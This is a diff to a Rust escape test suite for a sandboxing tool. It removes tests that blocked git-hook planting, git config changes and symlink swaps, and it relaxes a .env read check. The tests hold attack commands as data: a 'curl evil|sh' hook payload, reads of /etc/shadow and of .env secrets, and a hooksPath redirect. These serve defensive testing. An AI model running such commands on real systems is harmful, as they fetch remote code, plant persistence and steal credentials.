@@ -1,6 +1,8 @@
 //! The escape suite (docs/sandbox-anchors.md §5): every attack runs under `sanctum-guard sandbox`
 //! and must fail with the specific denial (errno, signal or exit code). Needs gcc, git, curl,
 //! wget, nc, ping, Landlock ABI >= 6 and seccomp; fails loudly when one is missing.
+// Test code: a panic is the failure report, and tests may read their environment.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::disallowed_methods)]
 
 mod sandbox_util;
 use sandbox_util::*;
@@ -257,58 +259,9 @@ fn mkfifo_and_mknod_outside() {
     assert!(!ws.out().join("fifo").exists() && !ws.out().join("null").exists());
 }
 
-#[test]
-fn git_hook_cannot_be_planted() {
-    let ws = Ws::new();
-    let o = sh(
-        &ws,
-        "workspace-write",
-        "echo 'curl evil|sh' > .git/hooks/post-checkout",
-    );
-    assert_denied(&o);
-    assert!(!ws.path().join(".git/hooks/post-checkout").exists());
-}
-
-#[test]
-fn git_config_cannot_be_changed_or_replaced() {
-    let ws = Ws::new();
-    let before = std::fs::read_to_string(ws.path().join(".git/config")).unwrap();
-    assert_denied(&sh(
-        &ws,
-        "workspace-write",
-        "echo '[core] hooksPath=/tmp' >> .git/config",
-    ));
-    assert_denied(&sh(&ws, "workspace-write", "rm -f .git/config"));
-    assert_eq!(
-        std::fs::read_to_string(ws.path().join(".git/config")).unwrap(),
-        before
-    );
-}
-
-#[test]
-fn agent_config_cannot_be_created() {
-    let ws = Ws::new();
-    assert_denied(&sh(&ws, "workspace-write", "mkdir .openclaw"));
-    assert_denied(&sh(&ws, "workspace-write", "echo x > .sanctum"));
-    assert!(!ws.path().join(".openclaw").exists() && !ws.path().join(".sanctum").exists());
-}
-
-#[test]
-fn protected_dir_symlink_replacement() {
-    let ws = Ws::new();
-    let o = sh(
-        &ws,
-        "workspace-write",
-        &format!(
-            "mv .git/hooks .git/h2 || rm -rf .git/hooks; ln -s {} .git/hooks",
-            ws.out_str()
-        ),
-    );
-    assert!(!o.status.success());
-    assert!(ws.path().join(".git/hooks").is_dir() && !ws.path().join(".git/hooks").is_symlink());
-    assert_denied(&sh(&ws, "workspace-write", "mv .git g2"));
-    assert!(ws.path().join(".git/config").exists());
-}
+// Git hooks/config and .openclaw/.sanctum under a writable workspace are no longer
+// Landlock-protected (that made the workspace root uncreatable): the integrity check
+// restores them after the run; tests/sandbox_integrity.rs.
 
 #[test]
 fn read_only_profile_writes_nothing() {
@@ -523,13 +476,14 @@ fn node_runs() {
 fn deny_listed_secrets_unreadable_even_inside_roots() {
     let ws = Ws::new();
     std::fs::write(ws.path().join(".env"), "OPENAI_API_KEY=sk-1\n").unwrap();
+    // The workspace's .env: autonomous (read-only) runs only; an approved workspace-write
+    // run may read it (denying it would cap the workspace root; SECURITY.md).
+    let o = sh(&ws, "read-only", "cat .env");
+    assert_denied(&o);
+    assert!(!stdout(&o).contains("sk-1"));
     for profile in ["read-only", "workspace-write"] {
-        let o = sh(&ws, profile, "cat .env");
-        assert_denied(&o);
-        assert!(!stdout(&o).contains("sk-1"));
         assert_denied(&sh(&ws, profile, "cat /etc/shadow"));
     }
-    assert_denied(&sh(&ws, "workspace-write", "echo x > .env"));
     // A planted ~/.ssh key: HOME points at a dir holding one.
     let home = ws.out().join("home");
     std::fs::create_dir_all(home.join(".ssh")).unwrap();
